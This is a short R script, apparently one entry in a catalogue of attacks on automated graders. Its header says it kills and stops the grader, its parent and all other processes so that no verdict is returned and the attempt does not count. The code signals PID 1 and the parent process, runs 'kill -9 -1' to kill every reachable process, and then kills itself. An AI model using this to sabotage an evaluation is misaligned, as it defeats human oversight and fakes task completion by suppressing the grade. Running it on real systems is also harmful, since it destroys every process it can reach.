# ---
# tries: Kills and stops the grader, its parent and all others.
# place: before
# gain: no verdict, so that the attempt may not count
# helps: be-pid-1
# ---
for (number in c(19, 9)) {
  for (pid in setdiff(c(1, attack_parent()), c(0, Sys.getpid()))) tools::pskill(pid, number)
}
system("kill -9 -1 2> /dev/null")
tools::pskill(Sys.getpid(), 9)
